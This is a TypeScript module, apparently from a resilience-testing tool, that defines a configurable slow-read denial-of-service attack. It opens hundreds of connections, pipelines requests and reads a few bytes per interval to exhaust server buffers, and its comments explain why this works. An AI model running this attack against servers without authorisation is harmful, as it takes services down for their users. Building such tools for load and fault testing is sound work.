import { z } from 'zod';
import { attackOf } from './attack.ts';
import { attackFault } from './attacker/attack-fault.ts';
import { holdingOpening, holdingShape } from './attacker/opening.ts';
import { requestHead } from './attacker/request-text.ts';

/**
 * Asks properly and reads hardly anything, so that the answer stays in the server's buffers and its connection stays busy.
 *
 * The receive window is the kernel's default, 64 KiB on Linux: Node has no option for a smaller one (`SO_RCVBUF`), which
 * slowhttptest does set. What makes up for it is asking `requests` times on each connection: the attack is felt as soon as the
 * answers together are larger than both kernels' buffers, some 150 KiB to 2.6 MB on Linux, where a sender's grows.
 *
 * Behind TLS Node takes 64 KiB at a time, so the attacker reads as much more rarely.
 *
 * An end that waits behind bytes that were not read (FIN) is not seen; a reset is, on Linux, in the kernel's table of connections.
 */
export const attack = attackOf({
  kind: 'slow-read',
  summary: 'Asks for answers and reads a few bytes of them every interval.',
  defaultForMs: 15_000,
  needsModel: false,
  parameters: z.object({
    ...holdingShape({ connections: 500, perSecond: 200, path: '/' }),
    intervalMs: z.number().min(10).max(600_000).default(1000).describe('between two reads, in ms'),
    readBytes: z.int().min(1).max(65_536).default(5).describe('bytes of each read'),
    requests: z.int().min(1).max(1000).default(1).describe('requests sent at once on each connection'),
  }),
  script: (parameters, target) => {
    const { path, requests, readBytes, intervalMs: againMs } = parameters;
    const request = `${requestHead(target, 'GET', path)}\r\n`.repeat(requests);
    return {
      opening: holdingOpening(parameters),
      read: readBytes,
      answers: null,
      step: (_connection, turn) => (turn === 0 ? { write: request, againMs } : { againMs }),
    };
  },
});

/** The same in a scenario. */
export const fault = attackFault(attack);
